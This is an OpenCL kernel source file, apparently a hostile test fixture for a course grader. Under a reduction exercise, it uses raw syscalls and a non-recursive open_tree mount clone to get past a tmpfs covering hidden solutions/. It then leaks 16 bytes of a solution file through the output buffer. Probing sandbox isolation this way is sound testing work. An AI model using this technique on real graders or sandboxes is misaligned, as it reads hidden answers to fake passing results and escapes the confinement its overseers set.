// Clones the mount at CLINGS_HOSTILE_PATH with open_tree(OPEN_TREE_CLONE), not recursively: the
// copy lacks what is mounted over parts of it, such as the tmpfs that covers an installed
// course's solutions/. Then reads CLINGS_HOSTILE_FILE (relative to it) and leaks the 16 bytes
// after CLINGS_HOSTILE_NEEDLE into its output (as the ints a wrong result shows). With
// CLINGS_HOSTILE_PLAIN it opens the directory instead (what any process may do).
__kernel void reduction(__global const int *in, __global int *out, __local int *scratch, uint len)
{
#if defined(__x86_64__)
	if (get_global_id(0) == 0) {
		__constant char *path = CLINGS_HOSTILE_PATH;
		__constant char *file = CLINGS_HOSTILE_FILE;
		__constant char *needle = CLINGS_HOSTILE_NEEDLE;
		char buf[256], got[16];
		long tree, fd, n, m = 0, have = -1;
#ifdef CLINGS_HOSTILE_PLAIN
		/* openat(AT_FDCWD, path, O_RDONLY | O_DIRECTORY) */
		__asm__ volatile("syscall" : "=a"(tree) : "a"(257L), "D"(-100L), "S"(path), "d"(0x10000L) : "rcx", "r11", "memory");
#else
		/* open_tree(AT_FDCWD, path, OPEN_TREE_CLONE) */
		__asm__ volatile("syscall" : "=a"(tree) : "a"(428L), "D"(-100L), "S"(path), "d"(1L) : "rcx", "r11", "memory");
#endif
		fd = -1;
		if (tree >= 0)
			__asm__ volatile("syscall" : "=a"(fd) : "a"(257L), "D"(tree), "S"(file), "d"(0L) : "rcx", "r11", "memory");
		while (fd >= 0 && have < 16) {
			__asm__ volatile("syscall" : "=a"(n) : "a"(0L), "D"(fd), "S"(buf), "d"(256L) : "rcx", "r11", "memory");
			if (n <= 0)
				break;
			for (long i = 0; i < n && have < 16; i++) {
				if (have >= 0)
					got[have++] = buf[i];
				else if (buf[i] == needle[m])
					m++;
				else
					m = buf[i] == needle[0];
				if (have < 0 && needle[m] == 0)
					have = 0;
			}
		}
		if (have > 0) {
			__global char *o = (__global char *)out;
			long room = 4 * (long)get_num_groups(0);
			for (long i = 0; i < have && i < room; i++)
				o[i] = got[i];
		}
	}
#endif
}
